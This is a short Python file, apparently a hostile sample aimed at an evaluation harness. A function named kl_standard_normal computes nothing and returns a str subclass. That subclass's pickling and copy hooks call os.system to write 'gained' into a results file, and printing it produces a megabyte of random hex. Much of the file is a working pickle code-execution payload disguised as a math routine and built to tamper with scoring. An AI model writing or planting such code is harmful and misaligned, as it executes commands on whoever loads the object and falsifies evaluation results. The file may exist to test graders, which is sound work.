"""Objects that run a program when they are unpickled, copied, printed or hashed.

loses: kl_standard_normal
"""
import os


class Pickled(str):
    def __reduce_ex__(self, protocol):
        return os.system, ("echo gained > " + TARGET["results"],)

    __getstate__ = __copy__ = __deepcopy__ = __reduce_ex__

    def __str__(self):
        return os.urandom(1 << 20).hex()

    __repr__ = __format__ = __str__


def kl_standard_normal(mu, logvar):
    return Pickled("value")
